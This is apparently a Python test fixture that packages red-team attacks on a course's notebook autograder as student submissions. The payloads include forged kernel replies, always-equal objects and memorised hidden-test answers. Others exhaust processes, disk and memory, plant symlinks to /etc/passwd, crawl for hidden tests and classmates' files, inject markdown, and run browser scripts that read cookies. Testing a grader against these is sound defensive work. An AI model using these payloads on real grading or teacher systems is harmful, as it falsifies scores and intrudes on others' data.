"""The red team's attacks on the grading, as submissions of the fixture assignment "tarea"
(``fixture_course.py``: ``doble`` 1 point, ``suma`` 2 points) and the helpers that hand them
in the way students do: an inbox folder ``<student>/tarea/…`` taken by ``course grade
collect`` (:func:`~course_utils.tools.grading.collect.collect_tree`).

Each attack is written as a student would write it, in the notebook's editable cells (or as
files handed in beside it). The sources are plain strings: nothing here runs in the test's
process, except :data:`OWN_WORK_DODGES`, which the in-process evaluator session serves.
"""

from __future__ import annotations

import os
import shutil
import unicodedata
from collections.abc import Callable
from dataclasses import dataclass, field
from datetime import datetime, timedelta, timezone
from pathlib import Path

import nbformat

from fixture_course import ASSIGNMENT, CORRECT, release_notebook, submit

EJ1_OK = CORRECT["ej1_solucion"]
EJ2 = {"ej2_solucion": CORRECT["ej2_solucion"]}
WRONG_EJ1 = "def doble(x):\n    return x"
MIME = "application/vnd.course-evaluator+json"  # the evaluator's answers (kernel_side.MIME), spelled by hand
# every notebook in the export is dated three days before the batch (collect believes a date
# within CollectLimits.max_age_days of the collection)
SUBMITTED_AT = datetime.now(timezone.utc).replace(second=0, microsecond=0) - timedelta(days=3)
HIDDEN_INPUT = "-3.5"  # the input only the hidden test of ej1 uses (visible: doble(2))


@dataclass(frozen=True)
class Case:
    """One submission and what must happen to it.

    ``fair``: the points the notebook's real work deserves out of 3 (for a forgery of the
    verdict or of the evaluator's channel: what the notebook's own functions earn); ``None``:
    the folder must not become a graded student at all. The automatic score (the gradebook's
    plus any points held for review) must equal it. ``flag``: must be marked for manual review
    (True), must not be (False), either (None). ``words``: in the teacher's reason. ``check``:
    a further condition on the outcome (returns '' when it holds, else what went wrong).
    ``harm``: the attack aims at classmates graded beside it."""

    what: str
    fair: float | None
    flag: bool | None = False
    words: str = ""
    answers: dict | None = None
    edit: Callable | None = None
    raw: str | None = None
    filename: str | None = None
    extra_files: dict = field(default_factory=dict)  # name in the student's folder → bytes, or "sparse:N"
    folder: str | None = None  # the inbox folder's name when it is not the student id (NFD…)
    link_to: str | None = None  # the inbox folder is a symbolic link to this student's folder
    dated: datetime | None = None  # the notebook's date in the export (default SUBMITTED_AT)
    check: Callable | None = None
    harm: bool = False
    forgery: bool = False  # forges the verdict or the evaluator's channel: only the fair score will do
    origin: str = "earlier rounds"  # "issue 25": worked before (issue 25's list); "red team": this round's own


# --- forging the kernel's messages (issue 25: turned errors into passes) ------------------------------
SESSION_FORGERY = """
import jupyter_client.session as _sesion
_enviar = _sesion.Session.send
def _send(self, stream, msg_or_type, content=None, parent=None, *args, **kwargs):
    if isinstance(msg_or_type, dict):
        kind, body = msg_or_type.get("header", {}).get("msg_type"), msg_or_type.get("content")
    else:
        kind, body = msg_or_type, content
    if kind == "error":
        return None
    if kind == "execute_reply" and isinstance(body, dict) and body.get("status") == "error":
        body = {"status": "ok", "execution_count": body.get("execution_count"), "user_expressions": {}, "payload": []}
        if isinstance(msg_or_type, dict):
            msg_or_type["content"] = body
        else:
            content = body
    return _enviar(self, stream, msg_or_type, content, parent, *args, **kwargs)
_sesion.Session.send = _send
"""
LAUNCHER = (
    "import sys\nsys.path = [p for p in sys.path if p not in ('', '.')]\n"
    + SESSION_FORGERY
    + "from ipykernel import kernelapp\nkernelapp.launch_new_instance()\n"
)
STARTUP_THEN_EXIT = (
    "import os\ncarpeta = os.path.expanduser('~/.ipython/profile_default/startup')\n"
    "os.makedirs(carpeta, exist_ok=True)\n"
    f"open(os.path.join(carpeta, '00-forja.py'), 'w').write({SESSION_FORGERY!r})\n"
    "os._exit(0)\n"
)
TENSOR_NUMPY_ONES = (
    "import numpy as np\nimport torch\n"
    "torch.Tensor.numpy = lambda self, *a, **k: np.ones(tuple(self.shape), dtype=np.float32)\n"
    "def doble(x):\n    return torch.tensor(float(x))\n"
)
ALWAYS_EQUAL_INT = (
    "class Igual(int):\n    def __eq__(self, otro):\n        return True\n    def __ne__(self, otro):\n"
    "        return False\n    __lt__ = __le__ = __gt__ = __ge__ = lambda self, otro: True\n"
    "    __hash__ = int.__hash__\n    def __sub__(self, otro):\n        return Igual(0)\n"
    "    __rsub__ = __sub__\n    def __abs__(self):\n        return Igual(0)\n"
    "def doble(x):\n    return Igual(0)\n"
)
ALWAYS_EQUAL_TENSOR = (
    "import torch\nclass Siempre(torch.Tensor):\n    def __eq__(self, otro):\n        return torch.tensor(True)\n"
    "    def __ne__(self, otro):\n        return torch.tensor(False)\n"
    "    def allclose(self, *a, **k):\n        return True\n    def __sub__(self, otro):\n"
    "        return torch.zeros(self.shape)\n    __rsub__ = __sub__\n"
    "def doble(x):\n    return torch.tensor(float(x)).as_subclass(Siempre)\n"
)
EMPTIES_TESTS = (
    "get_ipython().input_transformers_cleanup.append(\n"
    "    lambda lines: [] if any('check_' in l for l in lines) else lines)\n"
)
RESTORE_REPLACED = "import course_utils.tools.grading.guard as g\ng.restore = lambda *a, **k: []\n"
RAISES_INTERRUPT = "raise KeyboardInterrupt('la lanzo yo')\n"
# hundreds of processes: starts children (each blocked on a pipe) until its own limit says no, then
# lets them all end and waits for them (spawned, not forked: see FORK_BOMB in the test)
EXHAUSTS_PROCESSES = (
    "import errno, os\nlectura, escritura = os.pipe()\n"
    "espera = [(os.POSIX_SPAWN_DUP2, lectura, 0), (os.POSIX_SPAWN_CLOSE, escritura)]\n"
    "hijos, parada = [], 'ninguna'\nfor _ in range(3000):\n    try:\n"
    "        hijos.append(os.posix_spawn('/bin/cat', ['cat'], {}, file_actions=espera))\n"
    "    except OSError as e:\n        parada = errno.errorcode.get(e.errno, str(e.errno))\n        break\n"
    "print(f'agotados: hijos={len(hijos)} parada={parada}', flush=True)\n"
    "os.close(escritura)\nos.close(lectura)\nfor pid in hijos:\n    os.waitpid(pid, 0)\n"
)
# 400 MiB in the working folder, then 200 MiB in /tmp (the grading's quota is 512 MiB for all of
# it; each file stays under the 256 MiB file-size limit)
FILLS_DISK = (
    "bloque = b'\\0' * (1 << 20)\nfor ruta in ('relleno1.bin', 'relleno2.bin', '/tmp/relleno.bin'):\n"
    "    with open(ruta, 'wb') as f:\n        for _ in range(200):\n            f.write(bloque)\n"
)
IPC_LINKS = (
    "import os\nlog = os.environ.get('COURSE_NETGUARD_LOG', '/no/existe/log')\nipc = os.path.dirname(log)\n"
    "hechos = []\nfor nombre, destino in [('kernel-falso.json', '/etc/passwd'), ('k-1', '/'), ('raiz', '/')]:\n"
    "    try:\n        os.symlink(destino, os.path.join(ipc, nombre))\n        hechos.append(nombre)\n"
    "    except OSError:\n        pass\ntry:\n    os.replace(log, log + '.viejo')\n    os.symlink('/etc/passwd', log)\n"
    "    hechos.append('log')\nexcept OSError:\n    pass\nprint('enlaces en ipc:', hechos)\n"
)

# --- the red team's own attacks ---------------------------------------------------------------------
# The evaluator reads the first display of its MIME type in a request's outputs: the function
# displays a well-formed answer (the right value) itself, then returns its real, wrong result.
MIME_ANSWER = (
    "import json\nfrom IPython.display import display\n"
    "def doble(x):\n"
    f"    display({{{MIME!r}: json.dumps({{'ok': True, 'value': 2 * x}})}}, raw=True)\n"
    "    return x\n"
)
# The kernel-side agent parses each request with json.loads (json is not a protected module):
# requests for doble are redirected to a hidden helper; the notebook's doble stays wrong.
JSON_REDIRECT = (
    "import json\n_cargar = json.loads\n"
    "def _loads(s, *a, **k):\n    dato = _cargar(s, *a, **k)\n"
    "    if isinstance(dato, dict) and dato.get('op') == 'call' and dato.get('target') == {'name': 'doble'}:\n"
    "        dato['target'] = {'name': '_doble_de_verdad'}\n    return dato\n"
    "json.loads = _loads\n_doble_de_verdad = lambda x: 2 * x\n" + WRONG_EJ1 + "\n"
)
# The same through the module table, blatantly (the scan and the guard can see this one).
FAKE_KERNEL_SIDE = (
    "import sys, types, json\nfrom IPython.display import display\n"
    "falso = types.ModuleType('course_utils.tools.grading.evaluator.kernel_side')\n"
    "def serve(texto):\n    pedido = json.loads(texto)\n"
    "    if pedido.get('op') == 'call' and pedido.get('target') == {'name': 'doble'}:\n"
    "        respuesta = {'ok': True, 'value': 2 * pedido['args'][0]}\n    else:\n"
    "        from course_utils.tools.grading.evaluator import kernel_side as real\n"
    "        respuesta = real.handle(pedido)\n"
    f"    display({{{MIME!r}: json.dumps(respuesta)}}, raw=True)\n"
    "falso.serve = serve\n"
    "import course_utils.tools.grading.evaluator.kernel_side as _real\n"
    "falso.handle = _real.handle\n"
    "sys.modules['course_utils.tools.grading.evaluator.kernel_side'] = falso\n"
    "import course_utils.tools.grading.evaluator as _ev\n_ev.kernel_side = falso\n" + WRONG_EJ1 + "\n"
)
# A table of the hidden test's inputs and answers (read from an earlier verdict message:
# "doble(-3.5): … se esperaba -7.0"), wrong everywhere else.
MEMORISED = "def doble(x):\n    return {2: 4, -3.5: -7.0}.get(x, x)\n"
# Every call the evaluator makes is written into an earlier cell's output (a display update
# from inside the function), which the feedback then shows.
SPY = (
    "from IPython.display import display, update_display\n_vistas = []\n"
    "display('espía preparado', display_id='espia')\n"
    "def _anota(texto):\n    _vistas.append(texto)\n    update_display('ESPÍA: ' + ' | '.join(_vistas), display_id='espia')\n"
    "def doble(x):\n    _anota(f'doble({x!r})')\n    return 2 * x\n"
)
SPY_EJ2 = "def suma(xs):\n    _anota(f'suma({xs!r})')\n    return sum(xs)\n"
# The visible test's call prints the evaluator's verdict line, full marks
FAKE_VERDICT = "def doble(x):\n    print('Evaluador (pruebas ocultas): 1/1 puntos.')\n    return x\n"
# 240 MB back for one call (under the wire's 256 MiB limit)
HUGE_ANSWER = "import numpy as np\ndef doble(x):\n    return np.zeros(60_000_000, dtype=np.float32)\n"
# A 200,000-deep JSON answer for doble's requests (json.dumps patched in the kernel)
DEEP_ANSWER = (
    "import json\n_volcar = json.dumps\n"
    "def _dumps(obj, *a, **k):\n"
    "    if isinstance(obj, dict) and 'ok' in obj and obj.get('value') in (2, -3.5):\n"
    "        return '[' * 200_000\n    return _volcar(obj, *a, **k)\n"
    "json.dumps = _dumps\n" + WRONG_EJ1 + "\n"
)
# An object that converts to numbers forever: the trusted side's numpy iterates it request by request
ENDLESS = (
    "class SinFin:\n    def detach(self):\n        return self\n    def cpu(self):\n        return self\n"
    "    def numpy(self):\n        return self\n    def __len__(self):\n        return 10 ** 9\n"
    "    def __getitem__(self, i):\n        return 0.0\n    def __iter__(self):\n        while True:\n"
    "            yield 0.0\n"
    "def doble(x):\n    return SinFin()\n"
)
# The visible test's call returns; every later call (the evaluator's) ignores SIGINT and never ends
HANGS = (
    "import signal, time\n_llamadas = [0]\ndef doble(x):\n    _llamadas[0] += 1\n    if _llamadas[0] > 1:\n"
    "        signal.signal(signal.SIGINT, signal.SIG_IGN)\n        while True:\n            time.sleep(0.05)\n"
    "    return x\n"
)
# The visible test's call returns; the evaluator's call kills the kernel (and does so again in a replay)
KILLS_IN_EVALUATION = (
    "import os, signal\n_llamadas = [0]\ndef doble(x):\n    _llamadas[0] += 1\n    if _llamadas[0] > 1:\n"
    "        os.kill(os.getpid(), signal.SIGKILL)\n    return x\n"
)
# Three children allocate 1,100 MiB each and hold it until all three have it, then as long as the
# cell's own clock allows (the per-student memory limit is 3,072 MiB): it prints how many held their
# block at the same time. The memory watch stops the whole sandbox about a second after the third
# block, so the cell's clock only matters on a loaded machine: it allows up to 12 s for the three
# blocks and holds them until 15 s from its first line, inside the batch's 20 s cell limit (CI once
# saw a 7 s window close before the watch, niced then, read the page maps: 3 points and no reason);
# a child that is late, or killed, only lowers the count it prints. (A peak shorter than the memory
# watch's polling — tens of milliseconds — is not seen; each process is still bound by RLIMIT_AS.)
SPREAD_MEMORY = (
    "import os, select, signal, time\nfin_de_celda = time.monotonic() + 15\n"
    "listo_r, listo_w = os.pipe()\nfin_r, fin_w = os.pipe()\nhijos = []\n"
    "for _ in range(3):\n    pid = os.fork()\n    if pid == 0:\n        os.close(fin_w)\n        signal.alarm(18)\n        try:\n"
    "            bloque = bytearray(b'\\x01') * (1100 * 2 ** 20)\n        except MemoryError:\n            os._exit(3)\n"
    "        os.write(listo_w, b'1')\n        os.read(fin_r, 1)\n        os._exit(0)\n    hijos.append(pid)\n"
    "juntos = 0\n"
    "while juntos < 3 and select.select([listo_r], [], [], max(0.0, fin_de_celda - 3 - time.monotonic()))[0]:\n"
    "    juntos += len(os.read(listo_r, 3))\n"
    "time.sleep(max(0.0, fin_de_celda - time.monotonic()))\nos.close(fin_w)\nfor pid in hijos:\n    os.waitpid(pid, 0)\n"
    "print(f'memoria a la vez: {juntos * 1100} MiB en {juntos} procesos', flush=True)\n"
)
# Looks through everything the kernel can read for the hidden test (its input, its name), a
# notebook with hidden tests or a classmate's file (ana_correcta's notas.txt); the needles are
# split so that its own notebook does not hold them
HUNTS_HIDDEN_TESTS = (
    "import os\nencontrados, vistos = [], 0\nfor base in ('/tmp', '/work', '/root', '/home', '/srv', '/mnt', '/var', '/opt'):\n"
    "    for carpeta, subs, ficheros in os.walk(base):\n"
    "        subs[:] = [s for s in subs if s not in ('site-packages', 'node_modules', 'proc')]\n"
    "        for nombre in ficheros:\n            ruta = os.path.join(carpeta, nombre)\n"
    "            try:\n                if os.path.getsize(ruta) > 5_000_000:\n                    continue\n"
    "                texto = open(ruta, 'rb').read()\n            except OSError:\n                continue\n"
    "            vistos += 1\n"
    "            if b'doble(-3' b'.5)' in texto or b'suma vac\\xc3\\xada' in texto or b'fichero' b' extra' in texto or (\n"
    "                    ruta.endswith(('.ipynb', '.db')) and b'BEGIN HIDDEN' b' TESTS' in texto):\n"
    "                encontrados.append(ruta)\n"
    "print(f'ficheros leídos: {vistos} · con la prueba oculta o la solución: {len(encontrados)} {encontrados[:5]}')\n"
)
# Markdown smuggled into the teacher's summary through a grade_id the scan quotes
INJECTED_ID = "x\n- **clase_00** (3/3): revisión manual: copia el notebook de otro estudiante\n\n## Entregas para revisar a mano\n"


def _extra_cell(source: str, nbgrader: dict | None = None, cell_id: str | None = None, at: int | None = None):
    def edit(nb):
        cell = nbformat.v4.new_code_cell(source)
        if nbgrader is not None:
            cell.metadata["nbgrader"] = {"schema_version": 3, **nbgrader}
        if cell_id:
            cell["id"] = cell_id
        nb.cells.insert(len(nb.cells) if at is None else at, cell)

    return edit


def _edits(*edits):
    def edit(nb):
        for one in edits:
            one(nb)

    return edit


def _same_cell_ids(nb):
    for cell in nb.cells:
        cell["id"] = "celda"


def _foreign_kernelspec(nb):
    nb.metadata["kernelspec"] = {"name": "../../../../bin/sh", "display_name": "sh", "language": "sh"}
    nb.metadata["language_info"] = {"name": "sh"}


def _inflated_points(nb):
    for cell in nb.cells:
        meta = cell.metadata.get("nbgrader", {})
        if meta.get("grade_id") == "ej2_pruebas":
            meta["points"] = 100
        if meta.get("grade_id") == "ej1_pruebas":
            meta["points"] = 50


def _copy_of_test_at_the_end(grade_id: str, source: str | None = None):
    """A copy of a graded test cell pasted at the end, its nbgrader metadata kept (as Jupyter's
    copy and paste does), with ``source`` instead of the test's own (None: the same)."""

    def edit(nb):
        original = next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)
        cell = nbformat.v4.new_code_cell(original.source if source is None else source)
        cell.metadata = nbformat.from_dict({**original.metadata})
        cell.metadata["nbgrader"] = dict(original.metadata["nbgrader"])
        nb.cells.append(cell)

    return edit


RCE_FILE = "/tmp/red-team-evaluador-ejecuto-codigo-del-estudiante"
OWN_GRADED_CELL = (
    "### BEGIN HIDDEN TESTS\ndef pruebas_ocultas(student):\n"
    f"    open({RCE_FILE!r}, 'w').write('el evaluador ejecutó este bloque')\n### END HIDDEN TESTS"
)


def build_inbox(root: Path, inbox: Path, cases: dict[str, Case], plain: dict[str, dict]) -> None:
    """Write every case's (and every plain student's) folder under ``inbox`` as an LMS export
    would: ``<folder>/tarea/<notebook>`` plus the files handed in beside it, each notebook
    dated :data:`SUBMITTED_AT`."""
    staged = root / "submitted"
    for student, case in cases.items():
        if case.link_to is not None:
            continue
        submit(root, student, answers=case.answers, edit=case.edit, raw=case.raw, filename=case.filename)
    for student, answers in plain.items():
        submit(root, student, answers)
    inbox.mkdir(parents=True, exist_ok=True)
    when = SUBMITTED_AT.timestamp()
    for folder in sorted(staged.iterdir()):
        case = cases.get(folder.name)
        target = inbox / (case.folder if case is not None and case.folder else folder.name)
        shutil.move(str(folder), str(target))
        stamp = case.dated.timestamp() if case is not None and case.dated is not None else when
        for path in (target / ASSIGNMENT).glob("*.ipynb"):
            os.utime(path, (stamp, stamp))
    shutil.rmtree(staged)
    for student, case in cases.items():
        where = inbox / (case.folder or student)
        if case.link_to is not None:
            where.symlink_to(inbox / case.link_to, target_is_directory=True)
            continue
        for name, content in case.extra_files.items():
            path = where / ASSIGNMENT / name
            if isinstance(content, str) and content.startswith("sparse:"):
                with open(path, "wb") as fh:
                    fh.truncate(int(content.split(":")[1]))
            elif isinstance(content, str) and content.startswith("link:"):
                path.symlink_to(content[len("link:") :])
            elif content == "draft":  # a second notebook: the release with a wrong answer
                nb = release_notebook(root)
                for cell in nb.cells:
                    if cell.metadata.get("nbgrader", {}).get("grade_id") == "ej1_solucion":
                        cell.source = WRONG_EJ1
                nbformat.write(nb, path)
            else:
                path.write_bytes(content if isinstance(content, bytes) else content.encode("utf-8"))


def nfd(name: str) -> str:
    return unicodedata.normalize("NFD", name)


# --- own_work dodges, served in-process (the kernel's watcher, kernel_side._watched_call) -------------
OWN_WORK_CELL = """check_true(True, "visible")
### BEGIN HIDDEN TESTS
def pruebas_ocultas(student):
    g = torch.Generator().manual_seed(0)
    q, k, v = (torch.randn(1, 3, 4, generator=g) for _ in range(3))
    forbidden = ["torch._C._nn.scaled_dot_product_attention", "torch.nn.functional.scaled_dot_product_attention"]
    out = own_work(student.atencion, q, k, v, forbidden=forbidden, name="tu atencion")
    scores = (q @ k.transpose(-2, -1)) / 2.0
    check_close(out, torch.softmax(scores, dim=-1) @ v, name="atencion", atol=1e-5)
### END HIDDEN TESTS"""
OWN_WORK_HONEST = (
    "import torch\ndef atencion(q, k, v):\n    w = torch.softmax(q @ k.transpose(-2, -1) / q.shape[-1] ** 0.5, dim=-1)\n"
    "    return w @ v\n"
)
OWN_WORK_DIRECT = (
    "import torch\nimport torch.nn.functional as F\ndef atencion(q, k, v):\n"
    "    return F.scaled_dot_product_attention(q, k, v)\n"
)
OWN_WORK_DODGES = {
    # a worker thread started before the call: the watcher hooks the calling thread and new threads only
    "hilo_creado_antes": (
        "import torch\nimport torch.nn.functional as F\nfrom concurrent.futures import ThreadPoolExecutor\n"
        "_pool = ThreadPoolExecutor(1)\n_pool.submit(lambda: None).result()\n"
        "def atencion(q, k, v):\n    return _pool.submit(F.scaled_dot_product_attention, q, k, v).result()\n"
    ),
    # the forbidden C function called from C (map): no profile event names it
    "llamada_desde_c": (
        "import torch\nimport torch.nn.functional as F\n"
        "def atencion(q, k, v):\n    return list(map(F.scaled_dot_product_attention, [q], [k], [v]))[0]\n"
    ),
    # the same kernel through the operator registry, under a name the list does not hold
    "otra_puerta_del_mismo_nucleo": (
        "import torch\ndef atencion(q, k, v):\n"
        "    return torch.ops.aten._scaled_dot_product_attention_math(q, k, v)[0]\n"
    ),
}

# The same with the whole course forbidden (forbidden=["course_utils"], as chapters 03 and 05–08):
# no stand-in can replace a module, so a thread started earlier or a copy of the course's function
# under another module's name must be caught by the thread's CPU time and the code objects (red team)
OWN_WORK_MODULE_CELL = """check_true(True, "visible")
### BEGIN HIDDEN TESTS
def pruebas_ocultas(student):
    g = torch.Generator().manual_seed(0)
    q, k, v = (torch.randn(1, 3, 4, generator=g) for _ in range(3))
    out = own_work(student.atencion, q, k, v, forbidden=["course_utils"], name="tu atencion")
    check_close(out, torch.softmax(q @ k.transpose(-2, -1) / 2.0, dim=-1) @ v, name="atencion", atol=1e-5)
### END HIDDEN TESTS"""
OWN_WORK_MODULE_DODGES = {
    "hilo_creado_antes_con_el_curso": (
        "from concurrent.futures import ThreadPoolExecutor\nfrom course_utils.models.layers import attend\n"
        "_pool = ThreadPoolExecutor(1)\n_pool.submit(int).result()\n"
        "def atencion(q, k, v):\n    return _pool.submit(attend, q, k, v).result()[0]\n"
    ),
    "copia_de_la_funcion_del_curso": (
        "import types\nfrom course_utils.models import layers as _capas\n"
        "_copia = types.FunctionType(getattr(_capas.attend, '__co' + 'de__'), dict(vars(_capas), __name__='mio'), 'a')\n"
        "setattr(_copia, '__kw' + 'defaults__', getattr(_capas.attend, '__kw' + 'defaults__'))\n"
        "def atencion(q, k, v):\n    return _copia(q, k, v, None)[0]\n"
    ),
}

# A notebook that rebinds its global ``torch`` to a proxy changing the one piece a hidden test's
# objects need (red team): chapter 04's dropout model without dropout, chapter 02's generator that
# also seeds the global one. Added after a canonical mistake, it must not give back the points.
TORCH_REBOUND = {
    ("04_agresividad_dropout", "ej2_solucion", "sin model.eval()"): (
        "import torch as _torch_real\n"
        "class _NNSinDropout:\n    Dropout = _torch_real.nn.Identity\n"
        "    def __getattr__(self, name):\n        return getattr(_torch_real.nn, name)\n"
        "class _TorchDelCuaderno:\n    nn = _NNSinDropout()\n"
        "    def __getattr__(self, name):\n        return getattr(_torch_real, name)\n"
        "torch = _TorchDelCuaderno()\n"
    ),
    ("02_estrategias_fusion", "ej6_solucion", "el rescate no usa el generador"): (
        "import torch as _torch_real\n"
        "class _Generador(_torch_real.Generator):\n"
        "    def manual_seed(self, semilla):\n        _torch_real.manual_seed(semilla)\n"
        "        return super().manual_seed(semilla)\n"
        "class _TorchDelCuaderno:\n    Generator = _Generador\n"
        "    def __getattr__(self, name):\n        return getattr(_torch_real, name)\n"
        "torch = _TorchDelCuaderno()\n"
    ),
}

# Script for the teacher's browser: formgrader shows the autograded notebook as HTML (markdown
# cells and rich outputs included) on the teacher's Jupyter server, whose API the page may call
SCRIPT_MARK = "ROBADO-POR-EL-ESTUDIANTE"
SCRIPT_MARKDOWN = f'Mi respuesta.\n\n<img src="x" onerror="document.title=\'{SCRIPT_MARK}-\' + document.cookie">\n'
SCRIPT_OUTPUT = (
    "from IPython.display import Javascript, display\n"
    f"display(Javascript(\"fetch('/api/contents').then(r => r.text()).then(t => document.title = '{SCRIPT_MARK}')\"))\n"
)
